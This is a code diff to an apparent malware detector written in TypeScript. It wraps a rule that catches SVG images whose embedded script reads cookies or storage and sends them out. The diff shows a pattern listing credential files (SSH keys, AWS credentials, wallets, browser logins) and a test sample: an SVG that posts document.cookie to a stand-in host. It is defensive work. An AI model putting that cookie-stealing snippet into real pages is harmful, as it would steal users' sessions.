@@ -1,4 +1,4 @@
-import { around, placesOf, runPlaces, writtenPlaces, type Behaviour } from './behaviour.ts'
+import { apartBy, around, placesOf, runPlaces, writtenPlaces, type Behaviour } from './behaviour.ts'
 import { dropAddresses } from './throwaway-hosts.ts'
 
 const keyFiles = /\.(?:clawdbot|openclaw|moltbot)\/(?:\.env|openclaw\.json|credentials|secrets\.json|auth-profiles)|(?:~|HOME|homedir\(\)|expanduser)[^\n]{0,40}\.env\b|\.ssh\/id_|\.aws\/credentials|login\.keychain|Login Data|wallet\.dat/i
@@ -55,10 +55,10 @@ export const thefts: readonly Behaviour[] = [
     source: 'ClawHavoc family E: x-twitter2/logo.svg (openclaw/skills archive, 2026-01-31)',
     in: writtenPlaces,
     confidence: () => 'certain',
-    find: (text) => placesOf(text, /<svg\b/gi, (match) => {
+    find: (text) => placesOf(text, /<svg\b/gi, apartBy(10_000, (match) => {
       const picture = text.slice(match.index, match.index + 20_000)
       return /<script\b|\bonload\s*=/i.test(picture) && /document\.cookie|localStorage|sessionStorage/.test(picture) && sends.test(picture)
-    }),
+    })),
     examples: { hit: ['<svg xmlns="x"><script>fetch("https://e.example.com",{body:document.cookie})</script></svg>'], clean: ['<svg><path d="M0 0"/></svg>', '<svg><script>rotate()</script></svg>'] },
   },
 ]
